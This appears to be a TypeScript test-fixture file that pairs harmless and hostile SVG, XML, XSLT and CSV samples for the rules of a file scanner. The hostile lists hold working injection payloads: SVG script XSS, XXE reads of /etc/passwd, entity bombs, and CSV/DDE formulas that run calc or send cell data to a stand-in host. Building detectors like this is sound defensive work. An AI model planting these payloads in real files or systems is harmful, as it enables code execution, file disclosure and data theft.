/** A document that a rule finds, in several forms, and one that differs only in what the rule finds. */
export interface WebSample {
  rule: string;
  filename: string;
  harmless: readonly string[];
  hostile: readonly string[];
}

const svg = (content: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>\n${content}\n</svg>`;
const xml = (content: string, prolog = "") => `<?xml version="1.0"?>\n${prolog}<claim>${content}</claim>`;
const xslt = (content: string, namespaces = "") =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${namespaces}>${content}</xsl:stylesheet>`;
const bomb = (levels: number) =>
  `<!DOCTYPE claim [<!ENTITY e0 "lol">${Array.from({ length: levels }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join("")}]>`;

export const svgSamples: readonly WebSample[] = [
  {
    rule: "svg-script",
    filename: "logo.svg",
    harmless: [svg("<path d='M0 0'/>"), svg("<title>description of a script</title>")],
    hostile: [
      svg("<script>alert(1)</script>"),
      svg("<SCRIPT>alert(1)</SCRIPT>"),
      svg("<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>"),
      svg("<script href='data:text/javascript,alert(1)'/>"),
      svg("<g><script type='text/ecmascript'><![CDATA[alert(1)]]></script>"),
      svg("<handler type='application/ecmascript'>alert(1)</handler>"),
      svg("<?x a> <!-- ?><script>alert(1)</script><?x --> ?>"),
      `<!DOCTYPE svg [<!ENTITY x "<!--">]>${svg("<script>alert(1)</script><!-- -->")}`,
      svg("<metadata><!-- --><a b='<'><script>alert(1)</script></a></metadata>"),
    ],
  },
  {
    rule: "svg-handler",
    filename: "logo.svg",
    harmless: [
      svg("", "id='onload'"),
      svg("<text online='' xmlns:on='x'>onload=alert(1)</text>"),
      `<!DOCTYPE svg [<!ATTLIST svg onload CDATA #IMPLIED>]>${svg("")}`,
    ],
    hostile: [
      svg("", "onload='alert(1)'"),
      `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg("")}`,
      svg("", "ONLOAD='alert(1)'"),
      svg("<rect onclick = \n'alert(1)'/>"),
      svg("<animate onbegin='alert(1)' attributeName='x' dur='1s'/>"),
    ],
  },
  {
    rule: "svg-script-url",
    filename: "logo.svg",
    harmless: [
      svg("<a xlink:href='https://example.com/javascript:1'><text>x</text></a>"),
      svg("<image href='data:image/png;base64,iVBORw0KGgo='/>"),
    ],
    hostile: [
      svg("<a xlink:href='javascript:alert(1)'><text>x</text></a>"),
      svg("<a href='&#106;ava&#x73;cript:alert(1)'><text>x</text></a>"),
      svg("<a href=' \t JaVa\nScRiPt:alert(1)'><text>x</text></a>"),
      svg("<a href='\u0001java&#9;script&#58;alert(1)'><text>x</text></a>"),
      svg("<a href='vbscript:msgbox(1)'><text>x</text></a>"),
      svg("<a href='data:text/html;base64,PHNjcmlwdD4='><text>x</text></a>"),
      svg("<use href='data:image/svg+xml;base64,PHN2Zz4='/>"),
      svg("<a><animate attributeName='x' values='#a;javascript:alert(1)'/></a>"),
      `<!DOCTYPE svg [<!ENTITY a "java"><!ENTITY b "&a;script:">]>${svg("<a href='&b;alert(1)'><text>x</text></a>")}`,
    ],
  },
  {
    rule: "svg-animated-link",
    filename: "logo.svg",
    harmless: [svg("<animate attributeName='x' to='3'/>")],
    hostile: [
      svg("<a><set attributeName='href' to='https://example.com'/></a>"),
      svg("<a><animate attributeName='xlink:href' values='#a;#b'/></a>"),
    ],
  },
  {
    rule: "svg-external-reference",
    filename: "logo.svg",
    harmless: [
      svg("<use xlink:href='#a'/><rect fill='url(#b)' style='filter: url(#c)'/>"),
      svg("<a href='https://example.com/'><text>Our site</text></a>"),
      svg("<image href='file:///home/ada/logo.png'/>"),
      svg("<style>@namespace svg url(http://www.w3.org/2000/svg); .a { fill: red }</style>"),
    ],
    hostile: [
      svg("<use xlink:href='https://example.com/a.svg#a'/>"),
      svg("<image href='//example.com/a.png'/>"),
      svg("<image href='\\\\example.com\\share\\a.png'/>"),
      svg("<image href='file://example.com/share/a.png'/>"),
      svg("<image href='file:///etc/passwd'/>"),
      svg("<image href='expect://id'/>"),
      svg("<filter><feImage xlink:href='http://example.com/a.png'/></filter>"),
      svg("<rect fill='url(https://example.com/a.svg#b)'/>"),
      svg("<rect style='fill:u\\72l(https://example.com/a.svg#b)'/>"),
      svg("<style>@import 'https://example.com/a.css';</style>"),
      svg("<style>@im/**/port 'x'; @\\69mport url(https://example.com/a.css);</style>"),
      svg("<style><![CDATA[@font-face { src: url( 'https://example.com/a.woff' ) }]]></style>"),
    ],
  },
  {
    rule: "svg-html-content",
    filename: "diagram.svg",
    harmless: [
      svg("<foreignObject><div xmlns='http://www.w3.org/1999/xhtml'>Step 1<br/></div></foreignObject>"),
    ],
    hostile: [
      svg("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='a.html'/></foreignObject>"),
      svg(
        "<foreignObject><form xmlns='http://www.w3.org/1999/xhtml' action='a'><input name='p'/></form></foreignObject>",
      ),
      svg(
        "<foreignObject><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0; url=https://example.com'/></foreignObject>",
      ),
      svg("<foreignObject><embed src='a.swf'/></foreignObject>"),
    ],
  },
];

export const xmlSamples: readonly WebSample[] = [
  {
    rule: "xml-entity-bomb",
    filename: "data.xml",
    harmless: [xml("&e1;", bomb(1)), xml("x")],
    hostile: [
      xml("&e9;", bomb(9)),
      xml("&q;".repeat(2000), `<!DOCTYPE claim [<!ENTITY q "${"x".repeat(20_000)}">]>`),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    ],
  },
  {
    rule: "xml-external-entity",
    filename: "data.xml",
    harmless: [
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "text">]>'),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a SYSTEM "chapter-1.xml">]>'),
    ],
    hostile: [
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a SYSTEM "../chapter.xml">]>'),
      xml("&a;", "<!DOCTYPE claim [<!ENTITY a PUBLIC 'x' 'http://example.com/'>]>"),
      xml("", '<!DOCTYPE claim [<!ENTITY % a SYSTEM "http://example.com/a.dtd"> %a;]>'),
      xml("&a;", '<!DOCTYPE claim [<!-- ]> --><?x ]> ?><!ENTITY b "]>"><!ENTITY a SYSTEM "x">]>'),
      xml("&a;", '<!doctype claim [\n<!ENTITY\n a\n SYSTEM\n "x">]>'),
    ],
  },
  {
    rule: "xml-external-dtd",
    filename: "data.xml",
    harmless: [
      xml(
        "",
        '<!DOCTYPE claim PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
      ),
      xml("", '<!DOCTYPE claim SYSTEM "claim.dtd">'),
    ],
    hostile: [
      xml("", '<!DOCTYPE claim SYSTEM "http://example.com/a.dtd">'),
      xml("", "<!DOCTYPE claim PUBLIC '-//A/B/EN' 'http://example.com/a.dtd'>"),
      xml("", '<!DOCTYPE claim SYSTEM "\\\\example.com\\a.dtd">'),
      xml("", '<!DOCTYPE claim SYSTEM "php://filter/read=a">'),
      xml("", '<!DOCTYPE claim PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://192.0.2.1/svg11.dtd">'),
    ],
  },
  {
    rule: "xml-entity-markup",
    filename: "data.xml",
    harmless: [
      xml("", '<!DOCTYPE claim [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "<em>Claim</em><br/>">]>'),
      xml("<!-- <!ENTITY a 'b'> -->"),
    ],
    hostile: [
      xml("&a;", "<!DOCTYPE claim [<!ENTITY a \"<x y='z'/>\">]>"),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "</x><script>">]>'),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "&#60;script/>">]>'),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "javascript:alert(1)">]>'),
      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "data:text/html,a">]>'),
    ],
  },
  {
    rule: "xml-stylesheet",
    filename: "data.xml",
    harmless: [
      xml("", '<?xml-stylesheet type="text/xsl" href="claim.xsl"?>'),
      xml("", '<?xml-stylesheet type="text/css" href="claim.css"?>'),
    ],
    hostile: [
      xml("", '<?xml-stylesheet type="text/xsl" href="https://example.com/a.xsl"?>'),
      xml("", '<?xml-stylesheet type="text/css" href="&#104;ttps://example.com/a.css"?>'),
      xml("", "<?xml-stylesheet type='text/xsl' href='#x'?>"),
      xml("", '<?xml-stylesheet type="text/css" href="javascript:alert(1)"?>'),
    ],
  },
  {
    rule: "xml-include",
    filename: "data.xml",
    harmless: [xml('<include href="/etc/passwd"/>')],
    hostile: [
      xml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
      xml('<include xmlns="http://www.w3.org/2001/XInclude" href="https://example.com/"/>'),
    ],
  },
  {
    rule: "xml-active-content",
    filename: "data.xml",
    harmless: [xml("<script>Hello</script>"), xml("<![CDATA[<p onclick='x'>]]>")],
    hostile: [
      xml("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
      xml("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ],
  },
  {
    rule: "xml-xslt-extension",
    filename: "table.xsl",
    harmless: [
      xslt('<xsl:template match="/"><xsl:value-of select="format-number(1, 0)"/></xsl:template>'),
      xslt("", 'xmlns:exsl="http://exslt.org/common"'),
      xslt("", 'xmlns:msxsl="urn:schemas-microsoft-com:xslt"'),
    ],
    hostile: [
      xslt("<m:script language='JScript'>x</m:script>", 'xmlns:m="urn:schemas-microsoft-com:xslt"'),
      xslt("", 'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"'),
      xslt("", 'xmlns:php="http://php.net/xsl"'),
    ],
  },
  {
    rule: "xml-xslt-external",
    filename: "table.xsl",
    harmless: [xslt('<xsl:include href="parts.xsl"/>')],
    hostile: [
      xslt('<xsl:include href="https://example.com/parts.xsl"/>'),
      xslt("<xsl:copy-of select=\"document( 'file:///etc/passwd' )\"/>"),
    ],
  },
  {
    rule: "xml-program",
    filename: "data.xml",
    harmless: [
      "<Project><Task/></Project>",
      '<template xmlns="http://www.xfa.org/schema/xfa-template/2.5/"><event/></template>',
    ],
    hostile: [
      '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="A" TaskFactory="CodeTaskFactory"/></Project>',
      '<template xmlns="http://www.xfa.org/schema/xfa-template/2.5/"><event><script>app.alert(1)</script></event></template>',
      "<ResourceDictionary xmlns='x'><ObjectDataProvider MethodName='Start'/></ResourceDictionary>",
    ],
  },
  {
    rule: "xml-encoding",
    filename: "data.xml",
    harmless: ['<?xml version="1.0" encoding="ISO-8859-1"?><claim/>'],
    hostile: [
      '<?xml version="1.0" encoding="UTF-7"?><claim>+ADw-script+AD4-</claim>',
      '<?xml version="1.0" encoding="IBM037"?><claim/>',
      "<!DOCTYPE html><meta charset=utf-7><p>+ADw-script+AD4-",
    ],
  },
];

export const tableSamples: readonly WebSample[] = [
  {
    rule: "csv-calling-formula",
    filename: "table.csv",
    harmless: [
      "name,amount\nAda,=1+2\nBob,-5\nCy,+49 170 1234567\nDi,@handle\nEve,=SUM(A1:A3)",
      'name;note\n=A1&"x";"a=b"\n-;--- | --- |',
      "| a | b |\n|---|---|\n| -x | =y |",
      '=IF(A1>0,"yes","no"),=\'Sheet 2\'!A1',
      "a,https://example.com/?x=HYPERLINK(1)",
      "-1.5e-3,2026-01-01,(12)",
    ],
    hostile: [
      "name,formula\nA,%0A-3+3+cmd|' /C calc'!D2\n",
      "a,=cmd|'/c calc'!A0",
      "a,\"=cmd|'/c calc'!A0\"",
      "a,+cmd|'/c calc'!A0",
      "a;-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "a,=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
      'a,"=HYPERLINK(""https://example.com/?""&A1,""x"")"',
      'a\t=hyperlink ("https://example.com","x")',
      'a|=WEBSERVICE("https://example.com")',
      'a,=IF(1=1,_xlfn.WEBSERVICE("https://example.com"),0)',
      'a,=IMPORTXML(CONCAT("https://example.com",A1),"//a")',
      'a,=DDE("cmd";"/c calc";"x")',
      'a,=EXEC("calc")',
      'a,=CALL("Kernel32","WinExec","JCJ","calc",0)',
      'a,=REGISTER("x","y")',
      "a,\t=cmd|'/c calc'!A0",
      "a,\" =cmd|'/c calc'!A0\"",
      "a\r=cmd|'/c calc'!A0",
      "a,\uff1dcmd|'/c calc'!A0",
      "a,@SUM(A1:A3)",
      'DDE ("cmd";"/C calc";"!A0")A0',
      "=rundll32|'URL.dll,OpenURL calc.exe'!A",
      "=AAAA+BBBB&\"Hello\"/12345&cmd|'/c calc.exe'!A",
      "%0A-3+3,-3+3+cmd|' /C calc'!D2",
      'a,=IMAGE("https://example.com/a.png")',
      "a,='\\\\example.com\\share\\[a.xls]Sheet1'!A1",
    ],
  },
];
